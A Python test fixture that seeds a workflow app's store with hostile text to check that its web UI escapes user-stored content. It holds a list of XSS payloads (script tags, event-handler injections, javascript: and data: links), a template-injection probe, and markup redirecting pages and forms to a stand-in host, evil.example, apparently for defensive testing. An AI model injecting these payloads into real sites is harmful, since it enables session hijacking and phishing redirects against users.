"""A store in which every text that a user can store is an attack on the page."""

from __future__ import annotations

from typing import Any, Final

import holdfast
from holdfast import App, Run, field

OWNED: Final = "window.owned=1"
PAYLOADS: Final = (
    f"<script>{OWNED}</script>",
    f'"><img src=x onerror="{OWNED}">',
    f"'><svg onload='{OWNED}'>",
    f"</textarea></title></script><script>{OWNED}</script>",
    f"javascript:{OWNED}",
    f'" autofocus onfocus="{OWNED}" x="',
    "{{ 7 * 1913371 }}{% raw %}",
    '"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '"><form action="https://evil.example/"><iframe src="https://evil.example/"></iframe>',
    '" hx-get="https://evil.example/" hx-trigger="load" x="',
)
ALL: Final = " ".join(PAYLOADS)
MARKDOWN: Final = (
    f"{ALL}\n\n[click](javascript:{OWNED}) [data](data:text/html,<script>{OWNED}</script>) [vb](vbscript:{OWNED})\n\n"
    f"![image](https://evil.example/x.png) <https://evil.example/> [ok](https://shop.example/)\n\n"
    f'[a](https://evil.example/" onmouseover="{OWNED}) [b]( java\tscript:{OWNED} )\n\n`<b>code</b>`\n\n'
    f"```\n</code></pre><script>{OWNED}</script>\n```\n\n<details open ontoggle={OWNED}>\n\n# heading {PAYLOADS[0]}\n\n"
    f"[ref]\n\n[ref]: javascript:{OWNED} '{PAYLOADS[1]}'\n"
)
RUN_IDS: Final = tuple(f"evil {payload}"[:200] for payload in PAYLOADS)
LONG: Final = "unbroken" * 60
ODD_IDS: Final = ("..", ".", "a/b", "a%2Fb", "?q=1#x", "100%", "~", "ünïcödé 🚀", "\u202egnp.exe", LONG)


def deceive(run: Run, text: str) -> object:
    run.state[ALL] = {ALL: [ALL, {"<b>": ALL}], LONG: LONG}
    run.log(ALL, note=ALL)
    run.step(lambda: {ALL: ALL}, name=PAYLOADS[0])
    run.checkpoint()
    run.effect(lambda: ALL, name=PAYLOADS[1])
    return run.ask(
        MARKDOWN,
        {
            "ok": field(bool, label=ALL, help=ALL),
            "note": field(str, label=PAYLOADS[1], help=PAYLOADS[3], default=ALL),
            "pick": field(str, choices={PAYLOADS[0]: PAYLOADS[1], PAYLOADS[2]: PAYLOADS[3]}, default=PAYLOADS[0]),
            "long": field(str, multiline=True, default=PAYLOADS[3]),
        },
        show={ALL: ALL, "url": f"javascript:{OWNED}"},
        who=["ana", PAYLOADS[0]],
    )


def fail(run: Run, text: str) -> None:
    run.step(_raise, text, name=PAYLOADS[5])


def _raise(text: str) -> None:
    raise ValueError(text)


def doubt(run: Run, text: str) -> object:
    def pay(text: str, idempotency_key: str) -> None:
        raise holdfast.InDoubt(ALL)

    return run.effect(pay, text)


def wait(run: Run) -> object:
    return run.wait_for(PAYLOADS[0])


def hostile_app(url: str) -> App:
    app = App(url)
    for number, function in enumerate((deceive, fail, doubt)):
        app.workflow(name=f"{function.__name__} {PAYLOADS[number]}")(function)
    app.workflow(wait)
    return app


def seed_hostile(url: str) -> list[str]:
    """Start the runs; their ids."""
    ids: list[str] = []

    def start(app: App, workflow: str, *args: Any, run_id: str, **options: Any) -> None:
        app.start(workflow, *args, run_id=run_id, **options)
        ids.append(run_id)

    with hostile_app(url) as app:
        meta = {PAYLOADS[1]: PAYLOADS[0], "note": ALL}
        for run_id, payload in zip(RUN_IDS, PAYLOADS, strict=True):
            start(app, f"deceive {PAYLOADS[0]}", payload, run_id=run_id, metadata=meta)
        start(app, f"fail {PAYLOADS[1]}", ALL, run_id=f"failed {PAYLOADS[0]}")
        start(app, f"doubt {PAYLOADS[2]}", ALL, run_id=f"doubt {PAYLOADS[1]}")
        for run_id in ODD_IDS:
            start(app, "wait", run_id=run_id)
        answer = {"ok": True, "note": ALL, "pick": PAYLOADS[0], "long": ALL}
        app.start(f"deceive {PAYLOADS[0]}", "x", run_id="answered")
        app.answer("answered", answer, by="ana")
        ids.append("answered")
        app.fork(RUN_IDS[0], f"fork {PAYLOADS[0]}", at="ask#1")
        app.cancel("~", by=PAYLOADS[0])
        publish = getattr(app, "publish_workflows", None)
        if publish is not None:
            publish()
    return ids
